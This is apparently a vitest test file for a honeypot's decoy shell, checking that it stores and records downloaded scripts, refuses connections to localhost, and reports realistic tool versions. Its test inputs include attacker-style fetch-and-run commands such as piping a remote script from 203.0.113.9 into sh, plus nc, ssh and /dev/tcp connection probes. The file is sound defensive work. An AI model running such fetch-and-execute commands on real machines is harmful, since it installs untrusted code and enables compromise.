import { afterAll, beforeAll, expect, test } from 'vitest'
import { identityOf, testShell } from '../../testing/decoy-shell.js'
import { type HttpReceiver, startHttpReceiver } from '../../testing/http-receiver.js'
import { createMachine } from './machine.js'

let server: HttpReceiver
beforeAll(async () => {
  server = await startHttpReceiver()
  server.answer((response) => void response.end('#!/bin/sh\necho fetched and run\n'))
})
afterAll(() => server.close())

/** Fetches from the server of the test, whatever host is asked for. */
async function fetchFromServer(url: string): Promise<Buffer | null> {
  const response = await fetch(new URL(new URL(url).pathname, server.url))
  return Buffer.from(await response.arrayBuffer())
}

test('where fetching is switched on, what was fetched is stored, recorded, and can be run', async () => {
  const { shell, records, kept } = testShell({ onFetch: fetchFromServer })
  const { output } = await shell.run(
    'cd /tmp; wget http://203.0.113.9/a.sh; curl -s -o b.sh http://203.0.113.9/b.sh; curl -s http://203.0.113.9/c.sh | sh; sh b.sh; ls',
  )
  expect(output).toContain("'a.sh' saved [31/31]")
  expect(output.endsWith('fetched and run\nfetched and run\na.sh  b.sh\n')).toBe(true)
  expect(records.filter(({ event_type }) => event_type === 'file_download')).toMatchObject(
    ['a', 'b', 'c'].map((name) => ({
      url: `http://203.0.113.9/${name}.sh`,
      outcome: 'success',
      file_sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    })),
  )
  expect(kept[0]?.content.toString()).toBe('#!/bin/sh\necho fetched and run\n')
  expect(server.requests.map(({ url }) => url)).toEqual(['/a.sh', '/b.sh', '/c.sh'])
})

test('a fetch that is refused, as by the guard of outbound connections, is a network that does not answer', async () => {
  const { shell, records, errors } = testShell({
    onFetch: async () => {
      throw new Error('a decoy connects to the platform alone')
    },
  })
  expect((await shell.run('curl http://203.0.113.9/x')).output).toContain('Connection timed out')
  expect(records).toMatchObject([{ event_type: 'file_download', outcome: 'failure' }])
  expect(errors).toEqual([])
})

test('the host itself refuses at once, and is never fetched from', async () => {
  let waited = 0
  const asked = server.requests.length
  const { shell } = testShell({
    onFetch: fetchFromServer,
    wait: async (milliseconds) => {
      waited += milliseconds
    },
  })
  const { output } = await shell.run(
    'wget http://127.0.0.1:8080/x; wget -q http://localhost/x; echo $?; curl http://localhost:81/; echo $?; nc 127.0.0.1 99; telnet localhost 23; ssh root@127.0.0.1; curl http://[::1]/; echo > /dev/tcp/127.0.0.1/9; echo > /dev/tcp/$(hostname)/9',
  )
  expect(output).toContain('Connecting to 127.0.0.1:8080... failed: Connection refused.\n4\n')
  expect(output).toMatch(/curl: \(7\) Failed to connect to localhost port 81[^\n]*\n7\n/)
  expect(output).toContain('nc: connect to 127.0.0.1 port 99 (tcp) failed: Connection refused\n')
  expect(output).toContain('telnet: Unable to connect to remote host: Connection refused\n')
  expect(output).toContain('ssh: connect to host 127.0.0.1 port 22: Connection refused\n')
  expect(output.match(/connect: Connection refused\n/g)).toHaveLength(2)
  expect(output).not.toContain('timed out')
  expect([waited, server.requests.length]).toEqual([0, asked])
})

test('versions of programs are those of the distribution', async () => {
  const shown = new Set<string>()
  for (let n = 0; n < 12; n += 1) {
    const identity = identityOf(`versions ${n}`)
    const { id, versionId } = createMachine(identity, 'h').distribution
    const { shell } = testShell({ identity })
    const { output } = await shell.run('curl -V | head -1; ssh -V; busybox | head -1; wget -V | head -1')
    expect(output).toMatch(
      /^curl 7\.\d+\.\d \(x86_64-pc-linux-gnu\).*\nOpenSSH_\d\.\dp1 (Ubuntu|Debian)-.*, OpenSSL .*\nBusyBox v1\.\d+\.\d \((Ubuntu|Debian) .*\nGNU Wget 1\.\d+/,
    )
    expect(output.includes('Ubuntu')).toBe(id === 'ubuntu')
    shown.add(`${id} ${versionId} ${output}`)
  }
  expect(shown.size).toBeGreaterThan(2)
})
